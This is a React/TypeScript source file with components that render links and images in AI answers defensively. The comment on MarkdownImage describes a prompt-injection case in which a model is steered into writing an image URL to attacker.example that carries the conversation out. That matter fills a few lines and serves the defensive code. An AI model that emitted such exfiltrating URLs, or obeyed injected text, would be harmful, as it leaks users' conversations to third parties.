import type { ComponentProps } from "react";
import type { ExtraProps } from "react-markdown";

const linkClass = "text-blue-700 underline underline-offset-2 hover:text-blue-900 dark:text-blue-400 dark:hover:text-blue-300";

/**
 * A link in an answer. react-markdown's urlTransform has already emptied any
 * URL whose scheme is not http(s), mailto, irc(s) or xmpp (javascript:,
 * vbscript:, data:, however encoded or cased); such a link is shown as its
 * text, not as a link to nowhere. Links open in a new tab without a handle on
 * this one (noopener), without a Referer, and without our endorsement
 * (nofollow). The title shows the real destination, since a model (or a page
 * it read) can write one URL as the text and link to another.
 */
export function MarkdownLink({ href, children }: ComponentProps<"a"> & ExtraProps) {
  if (!href) return <span>{children}</span>;
  // Footnote references and back-references stay on the page.
  if (href.startsWith("#")) return <a href={href} className={linkClass}>{children}</a>;
  return (
    <a href={href} title={href} target="_blank" rel="noopener noreferrer nofollow" className={linkClass}>
      {children}
    </a>
  );
}

/**
 * A markdown image, shown as a link to it rather than loaded. An answer can be
 * steered by text the model read (a web page, a file): such an injection can
 * make the model write `![](https://attacker.example/?q=<the conversation>)`,
 * and an image loaded on its own would send the conversation there without a
 * click. A link leaks nothing until the reader chooses to follow it.
 */
export function MarkdownImage({ src, alt }: ComponentProps<"img"> & ExtraProps) {
  const label = alt ? `Image: ${alt}` : "Image";
  if (typeof src !== "string" || !src) return <span>[{label}]</span>;
  return (
    <a href={src} title={src} target="_blank" rel="noopener noreferrer nofollow" className={linkClass}>
      {label}
    </a>
  );
}
